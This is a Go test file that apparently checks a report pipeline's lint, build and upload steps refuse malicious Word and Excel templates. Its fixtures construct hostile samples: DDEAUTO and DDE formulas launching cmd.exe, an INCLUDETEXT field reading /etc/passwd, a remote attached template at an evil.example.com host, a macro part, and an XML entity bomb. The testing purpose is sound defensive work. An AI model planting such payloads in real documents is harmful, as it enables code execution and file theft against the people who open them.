package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	jobpkg "jixiao/pipeline/job"
	"jixiao/pipeline/opc/opctest"
	"jixiao/pipeline/runner"
	"jixiao/templates"
)

// TestActiveTemplatesAreRefusedByLintAndBuild: what was found reaching the
// published files (a DDEAUTO field, INCLUDETEXT of /etc/passwd, a remote
// attached template, an image linked from outside, a macro part, {{.}},
// an entity loop) is refused by lint and by build alike, naming the thing
// and where it is, and build writes nothing; the web upload's check, the
// same loader, refuses it too.
func TestActiveTemplatesAreRefusedByLintAndBuild(t *testing.T) {
	field := func(instr string) string {
		return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">` + instr[:4] + `</w:instrText></w:r>` +
			`<w:r><w:instrText xml:space="preserve">` + instr[4:] + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	addRel := func(rel string) func(string) string {
		return func(s string) string {
			if s == "" {
				s = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n" + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>`
			}
			return strings.Replace(s, "</Relationships>", rel+"</Relationships>", 1)
		}
	}
	const relT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	cases := []struct {
		name, file string
		base       []byte
		edits      map[string]func(string) string
		want       string
	}{
		{"DDEAUTO in the footer", "模板.docx", templates.Disclosure, map[string]func(string) string{
			"word/footer1.xml": func(s string) string {
				return strings.Replace(s, "</w:ftr>", field(` DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" `)+"</w:ftr>", 1)
			}}, "页脚（word/footer1.xml） 第2段（“x”）：有 DDEAUTO 域"},
		{"INCLUDETEXT in the body", "模板.docx", templates.Disclosure, map[string]func(string) string{
			"word/document.xml": func(s string) string {
				return strings.Replace(s, "<w:body>", "<w:body>"+field(` INCLUDETEXT "/etc/passwd" `), 1)
			},
		}, "第1段（“x”）：有 INCLUDETEXT 域（域代码“INCLUDETEXT \"/etc/passwd\"”）"},
		{"remote attached template", "模板.docx", templates.Disclosure, map[string]func(string) string{
			"word/settings.xml": func(s string) string {
				return strings.Replace(s, "<w:defaultTabStop", `<w:attachedTemplate r:id="rId1"/><w:defaultTabStop`, 1)
			},
			"word/_rels/settings.xml.rels": addRel(`<Relationship Id="rId1" Type="` + relT + `attachedTemplate" Target="https://evil.example.com/t.dotm" TargetMode="External"/>`),
		}, "文档设置（word/settings.xml）：链接到外部的附加模板“https://evil.example.com/t.dotm”"},
		{"image linked from outside", "模板.docx", templates.Disclosure, map[string]func(string) string{
			"word/_rels/document.xml.rels": addRel(`<Relationship Id="rIdImg" Type="` + relT + `image" Target="http://tracker.example.com/p.png" TargetMode="External"/>`),
		}, "正文（word/document.xml）：链接到外部的图片“http://tracker.example.com/p.png”"},
		{"macro part", "模板.docx", templates.Disclosure, map[string]func(string) string{
			"word/vbaProject.bin": opctest.Set("\xd0\xcf\x11\xe0 VBA"),
		}, "部件 word/vbaProject.bin：是宏"},
		{"{{.}}", "模板.docx", templates.Disclosure, map[string]func(string) string{
			"word/document.xml": func(s string) string { return strings.Replace(s, "{{.县}}", "{{.}}", 1) },
		}, "第1段（“{{.}}{{.年度}}…”）：{{.}} 是一组字段"},
		{"entity loop", "模板.docx", templates.Disclosure, map[string]func(string) string{
			"word/styles.xml": func(s string) string {
				_, root, _ := strings.Cut(s, "?>")
				return `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>` + root
			}}, "word/styles.xml）：含有 XML 声明“<!DOCTYPE”"},
		{"a part that unpacks to 65 MB", "模板.docx", templates.Disclosure, map[string]func(string) string{
			"word/media/huge.bin": opctest.Set(strings.Repeat("\x00", 65<<20)),
		}, "部件 word/media/huge.bin 解压后有 65 MB，超过 64 MB"},
		{"Excel part that unpacks to 65 MB", "附件.xlsx", templates.Attachment, map[string]func(string) string{
			"xl/media/huge.bin": opctest.Set(strings.Repeat("\x00", 65<<20)),
		}, "部件 xl/media/huge.bin 解压后有 65 MB，超过 64 MB"},
		{"Excel macros", "附件.xlsx", templates.Attachment, map[string]func(string) string{
			"xl/vbaProject.bin": opctest.Set("\xd0\xcf\x11\xe0 VBA"),
		}, "xl/vbaProject.bin：是宏"},
		{"Excel DDE formula", "附件.xlsx", templates.Attachment, map[string]func(string) string{
			"xl/worksheets/sheet1.xml": func(s string) string {
				return strings.Replace(s, "</sheetData>", `<row r="100"><c r="C100"><f>cmd|' /C calc'!A0</f></c></row></sheetData>`, 1)
			}}, "工作表“附件” C100：公式“=cmd|' /C calc'!A0”是 DDE 链接"},
	}
	for _, c := range cases {
		dir := t.TempDir()
		path := filepath.Join(dir, c.file)
		if err := os.WriteFile(path, opctest.Edit(t, c.base, c.edits), 0o644); err != nil {
			t.Fatal(err)
		}
		code, _, lintErr := runCmd("lint", path)
		key := "docx"
		if strings.HasSuffix(c.file, ".xlsx") {
			key = "xlsx"
		}
		job := filepath.Join(dir, "job.yaml")
		os.WriteFile(job, []byte("county: 沁源县\nyear: 2023\ninput: "+abs(t, "../../data/qinyuan-2023.xlsx")+"\noutput: "+filepath.Join(dir, "out")+"\ntemplates:\n  "+key+": "+path+"\n"), 0o644)
		buildCode, _, buildErr := runCmd("build", job)
		if code != 2 || buildCode != 2 || !strings.Contains(lintErr, c.want) || !strings.Contains(buildErr, c.want) {
			t.Errorf("%s:\nlint %d %s\nbuild %d %s", c.name, code, lintErr, buildCode, buildErr)
		}
		// The web upload checks a candidate template by this same call.
		j, err := jobpkg.Load(job)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := runner.CheckTemplates(j); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: the upload check: %v", c.name, err)
		}
		if entries, _ := os.ReadDir(filepath.Join(dir, "out")); len(entries) > 0 {
			for _, e := range entries {
				if !strings.HasPrefix(e.Name(), ".") {
					t.Errorf("%s: a refused template wrote %s", c.name, e.Name())
				}
			}
		}
	}
	if code, out, errOut := runCmd("lint", "../../templates/attachment.xlsx"); code != 0 || !strings.Contains(out, "模板检查通过") {
		t.Errorf("lint of the sample Excel template: %d %s %s", code, out, errOut)
	}
}
